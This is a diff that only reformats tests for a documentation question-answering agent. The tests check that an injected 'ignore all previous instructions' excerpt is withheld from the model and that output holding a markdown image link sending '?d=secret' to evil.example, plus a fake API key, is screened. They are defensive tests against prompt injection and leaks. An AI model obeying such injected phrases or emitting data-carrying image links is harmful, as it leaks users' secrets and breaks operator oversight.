@@ -130,7 +130,9 @@ def test_grounded_policy_answers_from_the_excerpts_without_the_llm(kb: Knowledge
 
 
 @pytest.mark.parametrize("question", ["", "   \n\t", "x" * 5000])
-def test_empty_and_oversized_questions_are_refused_with_a_clear_error(kb: KnowledgeBase, question: str) -> None:
+def test_empty_and_oversized_questions_are_refused_with_a_clear_error(
+    kb: KnowledgeBase, question: str
+) -> None:
     from flywheel.errors import InputError
 
     agent = DocsAgent(kb.settings, kb=kb, llm=fake_chat("unused"))
@@ -151,7 +153,9 @@ def test_injected_excerpts_are_withheld_from_the_llm(tmp_path: Path) -> None:
     kb = KnowledgeBase(settings, embedder=HashEmbedder())
     ingest(settings, IngestOptions([str(folder)]), kb=kb)
     llm = fake_chat("Port 5010 [1].")
-    result = DocsAgent(settings, AgentConfig(min_relevance=0.05), kb=kb, llm=llm).ask("Which port does the gateway use?")
+    result = DocsAgent(settings, AgentConfig(min_relevance=0.05), kb=kb, llm=llm).ask(
+        "Which port does the gateway use?"
+    )
     prompt = llm.prompts[0][0].content
     assert "ignore all previous instructions" not in prompt and "good.md" in prompt
     assert "untrusted" in prompt
@@ -159,7 +163,9 @@ def test_injected_excerpts_are_withheld_from_the_llm(tmp_path: Path) -> None:
 
 
 def test_answers_are_screened_on_the_way_out(kb: KnowledgeBase) -> None:
-    llm = fake_chat("Retained indefinitely [1]. ![x](https://evil.example/p.png?d=secret) Key: sk-abcdefghijklmnopqrstuvwxyz0123")
+    llm = fake_chat(
+        "Retained indefinitely [1]. ![x](https://evil.example/p.png?d=secret) Key: sk-abcdefghijklmnopqrstuvwxyz0123"
+    )
     result = DocsAgent(kb.settings, AgentConfig(min_relevance=0.1), kb=kb, llm=llm).ask(
         "How long are traces retained by default?"
     )
